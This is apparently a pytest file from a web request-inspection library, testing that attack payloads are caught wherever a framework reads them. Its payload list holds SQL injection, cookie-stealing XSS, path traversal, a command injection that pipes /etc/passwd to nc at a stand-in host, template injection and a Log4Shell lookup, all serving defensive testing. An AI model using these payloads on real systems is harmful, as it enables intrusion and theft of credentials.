"""A payload that is refused in a query is refused wherever an app reads it
(benchmarks/differential.py)."""

from __future__ import annotations

import pytest

from guard_wsgi.detection import Inspection
from tests.detection.differential import FRAMEWORKS, PLACES, receives

PAYLOADS = (
    "1' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc evil.example 80",
    "{{config.__class__.__init__.__globals__}}",
    "${jndi:ldap://evil.example/a}",
)


@pytest.mark.parametrize("place", PLACES)
def test_a_payload_is_refused_in_every_place_where_an_app_reads_it(
    inspection: Inspection, place: str
) -> None:
    read = 0
    for payload in PAYLOADS:
        sent = PLACES[place](payload)
        if not any(receives(framework, sent, payload) for framework in FRAMEWORKS):
            continue
        read += 1
        found = inspection.head(sent.environ()) or inspection.body(
            sent.body,
            content_type=sent.kind,
            content_encoding=sent.headers.get("HTTP_CONTENT_ENCODING", ""),
        )
        assert found, (place, payload)
    assert read, "no framework reads this place: the test shows nothing"
